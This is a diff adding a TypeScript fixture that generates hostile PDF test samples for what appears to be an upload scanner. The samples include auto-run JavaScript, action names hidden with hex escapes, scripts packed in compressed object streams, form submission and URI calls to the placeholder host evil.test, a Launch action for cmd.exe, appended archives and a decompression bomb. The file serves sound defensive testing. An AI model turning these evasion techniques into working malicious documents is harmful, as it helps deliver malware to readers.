@@ -1,0 +1,136 @@
+import { deflateSync } from 'node:zlib';
+import { PDFDocument } from 'pdf-lib';
+import { cut, type HostileFile, joined, text } from './hostile-file';
+import { zip } from './strangers';
+
+const JS = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
+const PAGE = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>';
+
+interface Parts {
+  catalog?: string;
+  page?: string;
+  /** Objects from number 4 on. */
+  more?: (string | Uint8Array)[];
+  trailer?: string;
+}
+
+/** A PDF written by hand: one page, and whatever is added to its catalog, page, trailer or objects. */
+function pdf({ catalog = '', page = '', more = [], trailer = '' }: Parts): Uint8Array {
+  const objects = [
+    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
+    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
+    PAGE.replace('>>', `${page} >>`),
+    ...more,
+  ];
+  let body: Uint8Array = text('%PDF-1.7\n');
+  const places: number[] = [];
+  for (const [at, object] of objects.entries()) {
+    places.push(body.length);
+    body = joined(body, `${at + 1} 0 obj\n`, object, '\nendobj\n');
+  }
+  const rows = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('');
+  const size = objects.length + 1;
+  const table = `xref\n0 ${size}\n0000000000 65535 f \n${rows}trailer\n<< /Size ${size} /Root 1 0 R ${trailer} >>\n`;
+  return joined(body, table, `startxref\n${body.length}\n%%EOF\n`);
+}
+
+function stream(dictionary: string, content: Uint8Array | string): Uint8Array {
+  const bytes = typeof content === 'string' ? text(content) : content;
+  return joined(`<< ${dictionary} /Length ${bytes.length} >>\nstream\n`, bytes, '\nendstream');
+}
+
+/** An object packed in a stream, where a search through the file's bytes does not see it. */
+function packed(object: string, filter = 'Flate'): Uint8Array {
+  const content = text(`9 0 ${object}`);
+  const head = '/Type /ObjStm /N 1 /First 4';
+  if (filter === 'Flate') return stream(`${head} /Filter /FlateDecode`, deflateSync(content));
+  const hex = Buffer.from(deflateSync(content)).toString('hex');
+  return stream(`${head} /Filter [/ASCIIHexDecode /FlateDecode]`, `${hex}>`);
+}
+
+async function written(change: (document: PDFDocument) => unknown, options = {}): Promise<Uint8Array> {
+  const document = await PDFDocument.create();
+  document.addPage([200, 200]).drawText('Papye asirans');
+  await change(document);
+  return document.save(options);
+}
+
+const plain = () => written(() => undefined);
+const addScript = (document: PDFDocument) => document.addJavaScript('main', 'app.alert(1)');
+const paper = (expected: HostileFile['expected'], what: string, content: HostileFile['content']): HostileFile => ({
+  ...{ what, content, expected, fileName: 'paper.pdf' },
+});
+const active = (what: string, parts: Parts) => paper('pdf_active', what, () => pdf(parts));
+
+/** PDFs that act, carry, hide, or are none. */
+export const PDFS: HostileFile[] = [
+  paper('pdf_active', 'a script in the tree of names', () => written(addScript, { useObjectStreams: false })),
+  paper('pdf_active', 'the same, packed', () => written(addScript)),
+  paper('pdf_active', 'an attached file', () =>
+    written((document) => document.attach(text('MZ'), 'run.exe', { mimeType: 'application/octet-stream' })),
+  ),
+  active('a script that runs on opening', { catalog: `/OpenAction ${JS}` }),
+  active('the same, elsewhere', { catalog: '/OpenAction 4 0 R', more: [JS] }),
+  active('the same, with its name in codes', {
+    catalog: '/Open#41ction 4 0 R',
+    more: ['<< /S /J#61v#61#53cript /JS (app.alert\\(1\\)) >>'],
+  }),
+  active('the same, packed', { catalog: '/OpenAction 9 0 R', more: [packed(JS)] }),
+  active('the same, packed with its name in codes', {
+    catalog: '/OpenAction 9 0 R',
+    more: [packed('<< /S /#4aavaScript /JS (1) >>')],
+  }),
+  active('the same, packed twice', { catalog: '/OpenAction 9 0 R', more: [packed(JS, 'Hex')] }),
+  active('a script when a page is seen', { page: `/AA << /O ${JS} >>` }),
+  active('an action of a page that only calls an address', {
+    page: '/AA << /O << /S /URI /URI (http://evil.test) >> >>',
+  }),
+  active('an address called on opening', { catalog: '/OpenAction << /S /URI /URI (http://evil.test) >>' }),
+  active('a page gone to on opening, and then an address called', {
+    catalog: '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (http://evil.test) >> >>',
+  }),
+  active('a program that is started', {
+    page: '/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (cmd.exe) >> >>]',
+  }),
+  active('a form that is sent', {
+    page: '/Annots [<< /Subtype /Widget /A << /S /SubmitForm /F (http://evil.test) >> >>]',
+  }),
+  active('a form with a program in it', { catalog: '/AcroForm << /Fields [] /XFA (x) >>' }),
+  active('a link into an attached file', { page: '/Annots [<< /Subtype /Link /A << /S /GoToE /T << /R /C >> >> >>]' }),
+  active('a file hung on a page', { page: '/Annots [<< /Subtype /FileAttachment /FS << /EF << /F 4 0 R >> >> >>]' }),
+  active('a film', { page: '/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] >>]' }),
+  active('a script to which nothing points', { more: [JS] }),
+  active('a script within a stream’s bytes', { more: [stream('', `5 0 obj\n${JS}\nendobj`)] }),
+  paper('pdf_active', 'a script added behind the end', async () =>
+    joined(await plain(), `9 0 obj ${JS} endobj\n%%EOF`),
+  ),
+  paper('pdf_active', 'an archive behind the end', async () => joined(await plain(), zip('run.exe', text('MZ')))),
+  paper('pdf_protected', 'one that is encrypted', () =>
+    pdf({ trailer: '/Encrypt << /Filter /Standard /V 1 /R 2 /O () /U () /P -1 >>' }),
+  ),
+  paper('pdf_too_long', 'one of 51 pages', () =>
+    written((document) => {
+      for (let page = 2; page <= 51; page += 1) document.addPage();
+    }),
+  ),
+  paper('file_unreadable', 'one cut in the middle', async () => cut(await plain(), 0.5)),
+  paper('file_unreadable', 'a head and nothing behind it', () => text('%PDF-1.7\n%%EOF')),
+  paper('file_unreadable', 'HTML behind a head', () => text('%PDF-1.7\n<script>alert(1)</script>')),
+  paper('file_unreadable', 'pages that contain themselves', () =>
+    text(Buffer.from(pdf({})).toString('latin1').replace('/Kids [3 0 R] /Count 1', '/Kids [2 0 R] /Count 1')),
+  ),
+  paper('file_unreadable', 'a packed stream that unpacks to 100 MB', () =>
+    pdf({
+      more: [stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', deflateSync(Buffer.alloc(100_000_000, '1 ')))],
+    }),
+  ),
+  paper('file_type_refused', 'one that begins with something else', async () => joined('<html>', await plain())),
+  paper('kept', 'a plain one', plain),
+  paper('kept', 'one that opens at a page', () => pdf({ catalog: '/OpenAction [3 0 R /FitH 200]' })),
+  paper('kept', 'one that goes to a page on opening', () =>
+    pdf({ catalog: '/OpenAction 4 0 R', more: ['<< /Type /Action /S /GoTo /D [3 0 R /Fit] >>'] }),
+  ),
+  paper('kept', 'one that goes to a page on opening, packed', () =>
+    pdf({ catalog: '/OpenAction 9 0 R', more: [packed('<< /S /GoTo /D [3 0 R /Fit] >>')] }),
+  ),
+];
